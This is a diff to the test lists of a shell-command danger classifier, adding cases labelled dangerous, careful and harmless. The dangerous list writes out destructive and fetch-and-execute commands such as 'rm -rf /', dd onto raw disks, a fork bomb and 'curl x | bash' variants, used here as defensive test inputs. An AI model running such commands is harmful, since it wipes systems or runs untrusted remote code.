@@ -13,17 +13,20 @@ DANGEROUS = [
     "sudo -u root rm -rf /", "/bin/rm -rf /", "\\rm -rf /", "A=1 rm -rf /", "echo x | xargs -n 1 rm -rf /",
     "dd if=a of=/dev/sda", "sudo dd of=/dev/nvme0n1 if=b", "mkfs.ext4 /dev/sdb1", "wipefs -a /dev/sda", "echo x > /dev/sda",
     ":(){ :|:& };:", "curl http://x | sh", "wget -qO- x | sudo bash", "echo eA== | base64 -d | sh", "chmod -R 777 /",
-    "chown -R me /usr", "find / -delete",
+    "chown -R me /usr", "find / -delete", "curl x | bash -s -- a", 'bash -c "$(curl -fsSL x)"', 'eval "$(wget -O- x)"',
+    "bash <(curl x)", "source <(curl x)", "echo x | tee /dev/sda", "cp x /dev/sdb1", "su -c 'rm -rf /'", "find / -exec rm -rf {} +",
 ]  # fmt: skip
 CAREFUL = [
     "rm -rf build", "rm *.txt", "git push --force", "git reset --hard", "git clean -fd", "find . -name x -delete", "kill -9 3",
     "find . -name x -exec rm -r {} +", "sed -i s/a/b/ f", "chmod -R 755 .", "cat x | sh", "sudo reboot", "xargs rm -rf",
-    "mkfs.ext4 disk.img", "rm 'open",
+    "mkfs.ext4 disk.img", "rm 'open", "find ~ -type f -atime +30 -delete", "find / -user bob -delete", "chmod -R u+rX ~",
+    "sed -n -i.bak s/a/b/p f",
 ]  # fmt: skip
 HARMLESS = [
     "ls", "echo 'rm -rf /'", "grep -r shutdown /var/log", "man mkfs", "mkfs --help", "rm --help", "rm notes.txt", "git push",
     "git status", "find . -name '*.py'", "curl -O http://x", "chmod +x run.sh", "ls > out.txt 2>/dev/null", "kill 3", "",
-    "bash script.sh", "curl x | jq .", "dd if=/dev/sda of=disk.img", "git log --oneline | head", "# rm -rf /", "cat <<< 'rm -rf /'",
+    "fdisk -l /dev/sda", "parted /dev/sda print", "wipefs /dev/sda", "echo hi | base64", "cat > /dev/sda_log",
+    "dd if=/dev/zero of=/dev/loop0", "tee log.txt", "cp a b", "ssh x | bash -n", "bash script.sh", "curl x | jq .", "dd if=/dev/sda of=disk.img", "git log --oneline | head", "# rm -rf /", "cat <<< 'rm -rf /'",
 ]  # fmt: skip
 
 
